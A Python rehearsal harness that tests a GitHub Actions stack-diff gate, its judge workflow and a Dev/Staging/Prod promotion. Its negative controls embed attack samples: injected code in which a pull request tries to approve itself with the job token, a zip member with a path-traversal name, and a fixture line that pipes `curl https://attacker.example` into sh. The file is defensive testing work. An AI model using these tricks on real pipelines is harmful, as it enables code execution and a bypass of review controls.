"""The rehearsal's scenarios: pull requests and merges, as a team meets them, and the attacks the gate and the
promotion must refuse, each judged on what act itself produced (job and step results, the steps' output,
the job summaries), on the calls the GitHub API stand-in recorded (and how it answered them), and on what
the embedded AWS accounts hold afterwards.

A pull request's check is two workflows, as on GitHub: stack-diff.yml runs on the pull request (its own
code, a read-only token) and uploads its templates; stack-diff-judge.yml runs on workflow_run (the default
branch's code) and decides by a commit status. act does not chain workflow_run events, so the rehearsal
does what GitHub does between the two: it keeps the first run's artifact as GitHub keeps one (a zip, served
by the API stand-in under the run's id) and starts the judge with the workflow_run payload GitHub would
send - the run's id, head commit and branch, how it ended, and the pull requests it lists (none for a
fork's). The judge downloads the artifact through the API with its own token.

1. ``pull_request_change_k``: Prod's K changes. The status is success, one comment (with each head
   template's SHA-256, the artifact's bytes) is posted; a second push updates that same comment.
2. ``pull_request_rename_endpoint``: a fork's pull request renames the Prod endpoint (a replacement:
   downtime). The judge finds it by its head through the API, the status is failure; once the pull request
   carries ``stack-diff-acknowledged``, re-running the judge passes: the label is read as it is now.
3. ``pull_request_cannot_judge_itself`` (negative control): a pull request whose app.py, handed the job's
   token by its own edit of stack-diff.yml, tries to label itself acknowledged, post the comment and set the
   status to success. Every one of those calls is refused (403: the token is read-only) and the judge's
   status is failure.
4. ``hostile_artifacts`` (negative control): artifacts with a member that climbs out of the folder, one
   bigger than a template may be, one that is not JSON: the judge refuses each before installing anything,
   writes nothing from it, and sets the status to error.
5. ``merge_promotes``: a merge to main. Promote synthesizes once, for each stage's own account; Dev,
   Staging and Prod are deployed from that assembly, each job assuming the deploy role of the account the
   assembly names, each stage landing in its own account and nowhere else, each smoke-tested through
   boto3's sagemaker-runtime client, one after the other; the synth's summary lists every template's digest.
6. ``failed_dev_smoke_stops_staging``: the same merge with Dev's endpoint not answering: Dev's smoke test
   fails, Staging and Prod never start and are never deployed.
7. ``manual_promote_from_a_branch`` (negative control): promote started by hand (workflow_dispatch) on
   another branch: the first job refuses it, nothing after it starts, and the embedded AWS receives no call.
8. ``old_setuptools_fails_synth`` (negative control): the commit before this rehearsal existed built the
   image's wheels with the environment's own setuptools; on a fresh runner's venv the synth step fails
   (``invalid command 'bdist_wheel'``), as it did on GitHub.
"""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from harness.rehearsal.engine import REPOSITORY, JobResult, RunResult, Scratch

ACK_LABEL = "stack-diff-acknowledged"
STATUS = "peagle/stack-diff"  # review.judge.CONTEXT, spelled here as branch protection spells it
PR_WORKFLOW, JUDGE_WORKFLOW, PROMOTE_WORKFLOW = "stack-diff.yml", "stack-diff-judge.yml", "promote.yml"
PR_JOB, JUDGE_JOB = "synth", "judge"  # the job ids in those files
ARTIFACT = "stack-templates"
ENVIRONMENTS_PY = Path("stacks") / "environments.py"
FORK = "contributor/peagle-serving"


@dataclass
class Outcome:
    scenario: str
    checks: list[tuple[str, bool, str]] = field(default_factory=list)
    runs: list[RunResult] = field(default_factory=list)

    def check(self, name: str, ok: bool, detail: str = "") -> bool:
        self.checks.append((name, bool(ok), detail))
        return bool(ok)

    @property
    def ok(self) -> bool:
        return bool(self.checks) and all(ok for _, ok, _ in self.checks)

    def failed(self) -> list[str]:
        return [f"{name}: {detail}" for name, ok, detail in self.checks if not ok]

    def report(self) -> str:
        lines = [f"{'PASS' if self.ok else 'FAIL'} {self.scenario}"]
        lines += [f"  {'ok  ' if ok else 'FAIL'} {name}{': ' + detail if detail else ''}" for name, ok, detail in self.checks]
        lines += [f"  act log: {run.log}" for run in self.runs]
        return "\n".join(lines)


def _edit(path: Path, old: str, new: str) -> Callable[[Path], None]:
    def edit(work: Path) -> None:
        target = work / path
        text = target.read_text()
        if old not in text:
            raise AssertionError(f"the scenario's edit no longer applies: {old!r} is not in {path}")
        target.write_text(text.replace(old, new, 1))
    return edit


def _prod_k(old: int, new: int) -> Callable[[Path], None]:
    return _edit(ENVIRONMENTS_PY, f'**_bundle("prod"), num_speculative_tokens={old}',
                 f'**_bundle("prod"), num_speculative_tokens={new}')


def _result(job: JobResult | None) -> str:
    return f"{job.result}" if job else "the job never ran"


def _writes(api) -> list[str]:
    return [f"{c.method} {c.path}" for c in api.state.calls if c.method in ("POST", "PATCH")]


# --------------------------------------------------------------------------------------------------
# A pull request's check: its own run, then the judge
# --------------------------------------------------------------------------------------------------


@dataclass
class Check:
    synth: JobResult | None
    judge: JobResult | None
    synth_run: RunResult
    judge_run: RunResult | None
    head: str

    def status(self, api) -> dict | None:
        return api.state.status_of(self.head, STATUS)


def pull_request_payload(scratch: Scratch, *, number: int, action: str, head: str, branch: str,
                         head_repo: str = REPOSITORY) -> dict:
    return {"action": action, "number": number, "repository": {"full_name": REPOSITORY, "default_branch": "main"},
            "pull_request": {"number": number, "labels": [],
                             "head": {"sha": head, "ref": branch, "repo": {"full_name": head_repo}},
                             "base": {"sha": scratch.main, "ref": "main", "repo": {"full_name": REPOSITORY}}}}


def workflow_run_payload(scratch: Scratch, *, run_id: int, head: str, branch: str, conclusion: str,
                         number: int, head_repo: str = REPOSITORY) -> dict:
    """What GitHub sends the judge once a `stack diff` run has finished (a fork's run lists no pull request)."""
    listed = [] if head_repo != REPOSITORY else [
        {"number": number, "head": {"sha": head, "ref": branch}, "base": {"sha": scratch.main, "ref": "main"}}]
    return {"action": "completed", "repository": {"full_name": REPOSITORY, "default_branch": "main"},
            "workflow": {"name": "stack diff", "path": f".github/workflows/{PR_WORKFLOW}"},
            "workflow_run": {"id": run_id, "name": "stack diff", "event": "pull_request", "status": "completed",
                             "conclusion": conclusion, "head_sha": head, "head_branch": branch,
                             "head_repository": {"full_name": head_repo}, "repository": {"full_name": REPOSITORY},
                             "pull_requests": listed}}


def judge(scratch: Scratch, api, out: Outcome, *, run_id: int, head: str, branch: str, conclusion: str,
          number: int, label: str, head_repo: str = REPOSITORY, echo=None) -> tuple[JobResult | None, RunResult]:
    """The judge, as GitHub starts it after a `stack diff` run: the default branch's code, its own token."""
    payload = workflow_run_payload(scratch, run_id=run_id, head=head, branch=branch, conclusion=conclusion,
                                   number=number, head_repo=head_repo)
    run = scratch.run("workflow_run", payload, sha=scratch.main, label=label, workflow=JUDGE_WORKFLOW, tokens=api,
                      env={"GITHUB_API_URL": api.url}, echo=echo)
    out.runs.append(run)
    return run.job(JUDGE_JOB), run


def check_pull_request(scratch: Scratch, api, out: Outcome, *, number: int, head: str, branch: str, action: str,
                       label: str, head_repo: str = REPOSITORY, echo=None) -> Check:
    """The pull request's own run, its artifact kept as GitHub keeps it, then the judge."""
    api.open_pull_request(number, head_sha=head, head_ref=branch, head_repo=head_repo)
    payload = pull_request_payload(scratch, number=number, action=action, head=head, branch=branch, head_repo=head_repo)
    synth_run = scratch.run("pull_request", payload, sha=head, label=label, workflow=PR_WORKFLOW, tokens=api,
                            env={"GITHUB_API_URL": api.url}, echo=echo)
    out.runs.append(synth_run)
    synth = synth_run.job(PR_JOB)
    ok = synth is not None and synth.result == "success"
    if ok:
        api.add_artifact(synth_run.run_id, ARTIFACT, synth_run.zipped_artifact(ARTIFACT))
    verdict, judge_run = judge(scratch, api, out, run_id=synth_run.run_id, head=head, branch=branch,
                               conclusion="success" if ok else "failure", number=number, label=f"{label}-judge",
                               head_repo=head_repo, echo=echo)
    return Check(synth, verdict, synth_run, judge_run, head)


def _decided(out: Outcome, api, check: Check, expected: str, what: str) -> None:
    status = check.status(api) or {}
    out.check(f"the pull request's run passes (it only synthesizes)", check.synth is not None
              and check.synth.result == "success", _result(check.synth))
    out.check(f"the judge runs to its decision", check.judge is not None and check.judge.result == "success",
              _result(check.judge) + (f" {check.judge.steps}" if check.judge and check.judge.result != "success" else ""))
    out.check(f"{what}: the status {STATUS} on {check.head[:12]} is {expected}", status.get("state") == expected,
              f"{status.get('state')}: {status.get('description')}")


def _artifact_digests(check: Check) -> dict[str, str]:
    """SHA-256 of each template the pull request's run uploaded."""
    zipped = zipfile.ZipFile(io.BytesIO(check.synth_run.zipped_artifact(ARTIFACT)))
    return {name: hashlib.sha256(zipped.read(name)).hexdigest() for name in zipped.namelist() if name != "index.json"}


def pull_request_change_k(scratch: Scratch, api, *, echo=None) -> Outcome:
    out = Outcome("a pull request that changes K: the status is success, one comment, updated in place")
    number, branch = 11, "change-prod-k"
    first = scratch.commit(parent=scratch.main, branch=branch, message="Prod drafts 5 tokens", edit=_prod_k(7, 5))
    check = check_pull_request(scratch, api, out, number=number, head=first, branch=branch, action="opened",
                               label="pr-change-k", echo=echo)
    _decided(out, api, check, "success", "a change every stage can roll out")
    comments = api.state.comments_on(number)
    out.check("one comment is posted, by the judge", len(comments) == 1 and _writes(api).count(
        f"POST /repos/{REPOSITORY}/issues/{number}/comments") == 1, f"writes: {_writes(api)}")
    body = comments[0]["body"] if comments else ""
    out.check("the comment says what changes in Prod", "`Prod/PEagle` | ✅ | 0 | 3 | 0 | 2 |" in body
              and '"num_speculative_tokens":5' in body, body[:300])
    digests = _artifact_digests(check)
    out.check("the comment records the SHA-256 of each template the pull request's run uploaded",
              len(digests) == 3 and all(f"`{d}`" in body for d in digests.values()), str(digests))
    summary = check.judge.summary if check.judge else ""
    out.check("the judge's summary holds the per-stage table",
              "### Per stage" in summary and all(f"`{stage}/PEagle`" in summary for stage in ("Dev", "Staging", "Prod")),
              f"{len(summary)} characters")
    first_id = comments[0]["id"] if comments else None
    second = scratch.commit(parent=first, branch=branch, message="Prod drafts 6 tokens", edit=_prod_k(5, 6))
    check = check_pull_request(scratch, api, out, number=number, head=second, branch=branch, action="synchronize",
                               label="pr-change-k-again", echo=echo)
    _decided(out, api, check, "success", "the second push")
    comments = api.state.comments_on(number)
    patched = f"PATCH /repos/{REPOSITORY}/issues/comments/{first_id}"
    out.check("the second push updates the same comment", len(comments) == 1 and patched in _writes(api)
              and '"num_speculative_tokens":6' in comments[0]["body"] and second[:12] in comments[0]["body"],
              f"writes: {_writes(api)}")
    return out


def _rename_prod(work: Path) -> None:
    _edit(ENVIRONMENTS_PY, 'return f"peagle-{self.name.lower()}"',
          'return "peagle-production" if self.name == "Prod" else f"peagle-{self.name.lower()}"')(work)


def pull_request_rename_endpoint(scratch: Scratch, api, *, echo=None) -> Outcome:
    out = Outcome("a fork's pull request that renames the Prod endpoint: failure, success once acknowledged")
    number, branch = 12, "rename-prod-endpoint"
    head = scratch.commit(parent=scratch.main, branch=branch, message="Prod endpoint renamed", edit=_rename_prod)
    check = check_pull_request(scratch, api, out, number=number, head=head, branch=branch, action="opened",
                               label="pr-rename", head_repo=FORK, echo=echo)
    _decided(out, api, check, "failure", "an endpoint replaced")
    owner = FORK.split("/")[0]
    out.check("the fork's pull request (the event lists none) is found through the API by its head",
              any(c.method == "GET" and c.path == f"/repos/{REPOSITORY}/pulls" for c in api.state.calls)
              and api.state.comments_on(number), f"owner {owner}, branch {branch}")
    comments = api.state.comments_on(number)
    body = comments[0]["body"] if comments else ""
    out.check("the comment names the endpoint's replacement first", "### ⚠️ Destructive changes" in body
              and "Prod/PEagle" in body.split("### Per stage")[0] and "❌" in body, body[:300])
    api.set_labels(number, [ACK_LABEL])
    # GitHub's "re-run" of the judge sends the same workflow_run payload: the label is read from the API.
    verdict, _ = judge(scratch, api, out, run_id=check.synth_run.run_id, head=head, branch=branch, conclusion="success",
                       number=number, label="pr-rename-judge-rerun", head_repo=FORK, echo=echo)
    status = check.status(api) or {}
    out.check("with the label, the re-run's status is success", verdict is not None and verdict.result == "success"
              and status.get("state") == "success", f"{_result(verdict)}; {status.get('description')}")
    out.check("the labels were read from the API",
              any(c.method == "GET" and c.path.endswith(f"/issues/{number}/labels") for c in api.state.calls))
    out.check("still one comment on the pull request", len(api.state.comments_on(number)) == 1, f"writes: {_writes(api)}")
    return out


_SELF_JUDGING_APP = '''
# --- a hostile pull request: judge itself with whatever token this job holds -------------------------
import json as _json, os as _os, urllib.request as _request
def _attempt(method, path, body):
    request = _request.Request(_os.environ.get("GITHUB_API_URL", "https://api.github.com") + path, method=method,
                               data=_json.dumps(body).encode(), headers={"Content-Type": "application/json",
                               "Authorization": "Bearer " + _os.environ.get("GITHUB_TOKEN", "")})
    try:
        _request.urlopen(request, timeout=10)
        print("self-judging:", method, path, "accepted")
    except Exception as error:
        print("self-judging:", method, path, "refused:", error)
_repo, _sha = _os.environ.get("GITHUB_REPOSITORY", ""), _os.environ.get("GITHUB_SHA", "")
_attempt("POST", f"/repos/{_repo}/issues/{NUMBER}/labels", {"labels": ["stack-diff-acknowledged"]})
_attempt("POST", f"/repos/{_repo}/issues/{NUMBER}/comments", {"body": "<!-- peagle-stack-diff -->\\nAll clear."})
_attempt("POST", f"/repos/{_repo}/statuses/{_sha}", {"state": "success", "context": "peagle/stack-diff"})
# ------------------------------------------------------------------------------------------------------
'''


def _judge_itself(number: int) -> Callable[[Path], None]:
    def edit(work: Path) -> None:
        _rename_prod(work)
        app = work / "app.py"
        lines = app.read_text().splitlines(keepends=True)
        at = next(i for i, line in enumerate(lines) if line.startswith("from aws_cdk"))
        app.write_text("".join(lines[:at]) + _SELF_JUDGING_APP.replace("{NUMBER}", str(number)) + "".join(lines[at:]))
        # The most a pull request's workflow can hand its code without asking for more: the job's own token.
        _edit(Path(".github/workflows") / PR_WORKFLOW, "        run: npx cdk synth",
              "        env:\n          GITHUB_TOKEN: ${{ github.token }}\n        run: npx cdk synth")(work)
    return edit


def pull_request_cannot_judge_itself(scratch: Scratch, api, *, echo=None) -> Outcome:
    out = Outcome("negative control: a pull request whose app.py labels, comments and sets the status itself")
    number, branch = 13, "judge-myself"
    head = scratch.commit(parent=scratch.main, branch=branch, message="rename Prod, and approve it myself",
                          edit=_judge_itself(number))
    check = check_pull_request(scratch, api, out, number=number, head=head, branch=branch, action="opened",
                               label="pr-judges-itself", echo=echo)
    tries = [line.strip() for line in (check.synth.text if check.synth else "").splitlines() if "self-judging:" in line]
    out.check("its app.py ran in the pull request's job and tried all three", len(tries) == 3, "; ".join(tries))
    tried = [c for c in api.state.calls if c.token == f"pr-judges-itself: {PR_WORKFLOW}"]
    writes = [(c.method, c.path, c.status) for c in tried if c.method != "GET"]
    expected = {f"/repos/{REPOSITORY}/issues/{number}/labels", f"/repos/{REPOSITORY}/issues/{number}/comments",
                f"/repos/{REPOSITORY}/statuses/{head}"}
    out.check("the API received each attempt with the job's token and refused it (403: a read-only token)",
              {p for _, p, _ in writes} == expected and all(s == 403 for _, _, s in writes), str(writes))
    out.check("the pull request carries no label", not api.state.labels.get(number), str(api.state.labels.get(number)))
    own = [s for s in api.state.statuses if s.get("token") == f"pr-judges-itself: {PR_WORKFLOW}"]
    out.check("no status was set by the pull request's run", not own, str(own))
    _decided(out, api, check, "failure", "the judge, undeceived")
    comments = api.state.comments_on(number)
    out.check("the only comment is the judge's", len(comments) == 1 and "Destructive changes" in comments[0]["body"],
              str([c["body"][:60] for c in comments]))
    return out


def _artifact_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def _template_members(*stacks: str, override: dict[str, bytes] | None = None) -> dict[str, bytes]:
    template = json.dumps({"Resources": {"Topic": {"Type": "AWS::SNS::Topic"}}}).encode()
    index = {"format": 1, "stacks": [{"display_name": f"{s}/PEagle", "stack_name": f"{s}-PEagle",
                                       "template": f"{s}-PEagle.template.json"} for s in stacks]}
    members = {"index.json": json.dumps(index).encode(), **{f"{s}-PEagle.template.json": template for s in stacks}}
    members.update(override or {})
    return members


ESCAPED = "escaped-by-rehearsal.template.json"
HOSTILE = {
    "a member that climbs out": ({**{k: v for k, v in _template_members("Dev").items() if not k.startswith("Dev-")},
                                  f"../../../{ESCAPED}": b'{"Resources": {}}',
                                  "Dev-PEagle.template.json": b'{"Resources": {}}'}, f"member '../../../{ESCAPED}'"),
    "a member bigger than a template may be": (_template_members("Dev", override={
        "Dev-PEagle.template.json": json.dumps({"Resources": {}, "Padding": "x" * (2 << 20)}).encode()}),
        "member 'Dev-PEagle.template.json': allowed: at most"),
    "a member that is not JSON": (_template_members("Dev", override={
        "Dev-PEagle.template.json": b"import os\nos.system('curl https://attacker.example | sh')\n"}),
        "member 'Dev-PEagle.template.json': allowed: UTF-8 JSON"),
}


def hostile_artifacts(scratch: Scratch, api, *, echo=None) -> Outcome:
    out = Outcome("negative control: the judge refuses hostile artifacts before it installs anything")
    number, branch = 14, "hostile-artifact"
    head = scratch.commit(parent=scratch.main, branch=branch, message="a harmless change",
                          edit=_edit(Path("README.md"), "#", "# "))
    api.open_pull_request(number, head_sha=head, head_ref=branch)
    for i, (case, (members, named)) in enumerate(HOSTILE.items()):
        run_id = 9100 + i  # as if the pull request's own run had uploaded it (its workflow is its own)
        api.add_artifact(run_id, ARTIFACT, _artifact_zip(members))
        verdict, run = judge(scratch, api, out, run_id=run_id, head=head, branch=branch, conclusion="success",
                             number=number, label=f"hostile-{i}", echo=echo)
        text = verdict.text if verdict else ""
        said = next((line for line in text.splitlines() if "artifact is refused" in line), "no refusal in the log")
        out.check(f"{case}: refused at the check, naming it", verdict is not None and verdict.result == "failure"
                  and verdict.step("Check the zip") == "failure" and named in said, said)
        out.check(f"{case}: nothing was installed", verdict is not None
                  and verdict.step("Install the CDK side") in (None, "skipped") and "pip install" not in text,
                  f"Install the CDK side: {verdict.step('Install the CDK side') if verdict else None}")
        status = api.state.status_of(head, STATUS) or {}
        out.check(f"{case}: the status is error", status.get("state") == "error", status.get("description", ""))
    escaped = [p for p in scratch.root.rglob(ESCAPED)] + list((Path.home() / ".cache" / "act").rglob(ESCAPED))
    out.check("nothing was written from an artifact anywhere", not escaped, str(escaped))
    out.check("no comment was posted", not api.state.comments_on(number))
    return out


# --------------------------------------------------------------------------------------------------
# Promotion
# --------------------------------------------------------------------------------------------------


PROMOTE_JOBS = ("main-only", "synth", "dev", "staging", "prod")
STAGE_JOBS = {"dev": "Dev", "staging": "Staging", "prod": "Prod"}


def _promote_variables(aws) -> dict[str, str]:
    """The repository's variables: each stage's account, and the region."""
    return {**{f"{stage.upper()}_ACCOUNT_ID": account for stage, account in aws.accounts.items()},
            "AWS_REGION": aws.region}


def _promote(scratch: Scratch, aws, *, label: str, echo=None) -> RunResult:
    payload = {"ref": "refs/heads/main", "before": "0" * 40, "after": scratch.main,
               "repository": {"full_name": REPOSITORY, "default_branch": "main"}}
    return scratch.run("push", payload, sha=scratch.main, label=label, workflow=PROMOTE_WORKFLOW,
                       env=aws.job_environment(), path_prefix=aws.path_prefix(), variables=_promote_variables(aws),
                       echo=echo)


def merge_promotes(scratch: Scratch, aws, *, echo=None) -> Outcome:
    out = Outcome("a merge to main: one synth, Dev then Staging then Prod, each in its own account, smoke-tested")
    run = _promote(scratch, aws, label="promote", echo=echo)
    out.runs.append(run)
    for name in PROMOTE_JOBS:
        job = run.job(name)
        out.check(f"{name} succeeds", job is not None and job.result == "success", run.describe())
    order = [key.split("/")[0] for key in run.jobs]
    out.check("the jobs ran in order", order == list(PROMOTE_JOBS), str(order))
    synthesized = [name for name in STAGE_JOBS if "cdk synth" in (run.job(name).text if run.job(name) else "")]
    out.check("only the synth job synthesizes", not synthesized, str(synthesized))
    stacks = aws.stacks()
    for job_id, stage in STAGE_JOBS.items():
        account = aws.accounts[stage]
        role = f"arn:aws:iam::{account}:role/peagle-deploy-{stage.lower()}"
        job = run.job(job_id)
        out.check(f"{stage}'s job assumed {role} (the account the assembly names)",
                  job is not None and f"assumed {role} in {aws.region}" in job.text,
                  next((line for line in (job.text if job else "").splitlines() if "assumed" in line), "no such line"))
        out.check(f"{stage} is deployed in its own account only", stacks[account] == {f"{stage}-PEagle": "CREATE_COMPLETE"}
                  and all(f"{stage}-PEagle" not in found for acc, found in stacks.items() if acc != account),
                  str(stacks))
    # The deployed templates' GitRevision output (moto reports no outputs for a stack made by a change set).
    revisions = {}
    for stage, account in aws.accounts.items():
        name = f"{stage}-PEagle"
        body = aws.client("cloudformation", account).get_template(StackName=name)["TemplateBody"] \
            if name in stacks[account] else {}
        body = json.loads(body) if isinstance(body, str) else body
        revisions[stage] = body.get("Outputs", {}).get("GitRevision", {}).get("Value")
    out.check("each stage runs the assembly synthesized from the merged commit",
              set(revisions.values()) == {scratch.main}, str(revisions))
    summary = run.job("synth").summary if run.job("synth") else ""
    assembly = run.artifacts / "cloud-assembly"
    kept = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in assembly.rglob("*.template.json")}
    out.check("the synth's summary records the SHA-256 of every template it deployed",
              "### Templates deployed (SHA-256)" in summary and len(kept) == 3
              and all(f"`{d}`" in summary for d in kept.values()), summary[:300])
    for job_id in STAGE_JOBS:
        job = run.job(job_id)
        out.check(f"{job_id}'s smoke test passes through boto3", job is not None and "smoke test passed" in job.text
                  and job.step("Smoke test") == "success", job.step("Smoke test") if job else "not run")
        said = next((line.strip() for line in (job.text if job else "").splitlines()
                     if "the container runs the serving config deployed" in line), "no such check in its log")
        out.check(f"{job_id}'s container runs its stage's deployed serving config", said.startswith("ok"), said)
    out.check("each stage's request lines reached its log group", len(aws.shipped) == 3
              and min(aws.shipped.values()) >= 3, str(aws.shipped))
    # The weights every stage serves: the bundle main pins, staged into each stage's own bucket, and verified file
    # by file by the serving container before its engine started.
    from peagle_contract.bundle import MANIFEST_DIGEST_VAR

    pin = aws.runtime.extra_env[MANIFEST_DIGEST_VAR]
    staged = {stage: sorted(o["Key"].split("/")[2] for o in aws.client("s3", account).list_objects_v2(
        Bucket=f"peagle-weights-{stage.lower()}").get("Contents", []) if o["Key"].endswith("/manifest.json"))
        for stage, account in aws.accounts.items()}
    out.check("each stage's bucket holds the pinned bundle, in its own account",
              staged == {stage: [pin] for stage in aws.accounts}, str(staged))
    verified = next((line for line in aws.runtime.stderr_path.read_text(errors="replace").splitlines()
                     if "verified against" in line), "no verification in the container's log")
    out.check("the container verified the pinned bundle before serving", f"({pin[:12]}...)" in verified, verified)
    return out


def failed_dev_smoke_stops_staging(scratch: Scratch, aws, *, echo=None) -> Outcome:
    out = Outcome("a merge whose Dev smoke test fails: Staging and Prod never start")
    run = _promote(scratch, aws, label="promote-dev-down", echo=echo)
    out.runs.append(run)
    synth, dev = run.job("synth"), run.job("dev")
    out.check("synth succeeds", synth is not None and synth.result == "success", run.describe())
    out.check("Dev is deployed, then its smoke test fails", dev is not None and dev.result == "failure"
              and dev.step("Deploy the synthesized assembly") == "success" and dev.step("Smoke test") == "failure",
              str(dev.steps if dev else None))
    out.check("Staging and Prod never start", run.job("staging") is None and run.job("prod") is None, run.describe())
    stacks = aws.stacks()
    deployed = {account: found for account, found in stacks.items() if found}
    out.check("only Dev is deployed, in Dev's account", deployed == {aws.accounts["Dev"]: {"Dev-PEagle": "CREATE_COMPLETE"}},
              str(stacks))
    return out


def manual_promote_from_a_branch(scratch: Scratch, aws, *, echo=None) -> Outcome:
    out = Outcome("negative control: promote started by hand on a branch is refused before anything runs")
    branch = "try-my-branch-in-prod"
    head = scratch.commit(parent=scratch.main, branch=branch, message="a branch someone wants in Prod",
                          edit=_edit(Path("README.md"), "#", "# "))
    payload = {"ref": f"refs/heads/{branch}", "inputs": {}, "repository": {"full_name": REPOSITORY,
                                                                          "default_branch": "main"}}
    requests_before = aws.requests()
    run = scratch.run("workflow_dispatch", payload, sha=head, label="promote-from-branch", workflow=PROMOTE_WORKFLOW,
                      ref=f"refs/heads/{branch}", env=aws.job_environment(), path_prefix=aws.path_prefix(),
                      variables=_promote_variables(aws), echo=echo)
    out.runs.append(run)
    guard = run.job("main-only")
    out.check("the first job fails, saying why", guard is not None and guard.result == "failure"
              and f"this workflow_dispatch run is on refs/heads/{branch}; allowed: refs/heads/main" in guard.text,
              guard.text[-300:] if guard else "never ran")
    out.check("nothing after it starts", list(run.jobs) == ["main-only"], run.describe())
    out.check("the embedded AWS received no request", aws.requests() == requests_before,
              f"{requests_before} -> {aws.requests()}")
    out.check("no stack in any account", not any(aws.stacks().values()), str(aws.stacks()))
    return out


def _old_wheel_build(work: Path) -> None:
    _edit(Path("stacks") / "release.py", '"--no-deps", "-q",', '"--no-deps", "--no-build-isolation", "-q",')(work)


def old_setuptools_fails_synth(scratch: Scratch, *, echo=None) -> Outcome:
    out = Outcome("negative control: a build that uses the runner's own setuptools fails at the synth step")
    head = scratch.commit(parent=scratch.main, branch="old-wheel-build", message="wheels without isolation",
                          edit=_old_wheel_build)
    payload = {"ref": "refs/heads/main", "before": scratch.main, "after": head, "repository": {"full_name": REPOSITORY}}
    run = scratch.run("push", payload, sha=head, label="negative-control", workflow=PROMOTE_WORKFLOW, job="synth",
                      variables={"DEV_ACCOUNT_ID": "210000000001", "STAGING_ACCOUNT_ID": "210000000002",
                                 "PROD_ACCOUNT_ID": "210000000003", "AWS_REGION": "us-east-1"}, echo=echo)
    out.runs.append(run)
    job = run.job("synth")
    out.check("the synth job fails", job is not None and job.result == "failure", run.describe())
    out.check("at the synth step, after a clean set-up", job is not None
              and job.step("Install the CDK side") == "success" and job.step("Synthesize every stage") == "failure",
              str(job.steps if job else None))
    out.check("because the runner's setuptools cannot build a wheel", job is not None
              and "invalid command 'bdist_wheel'" in job.text, job.text[-300:] if job else "")
    return out
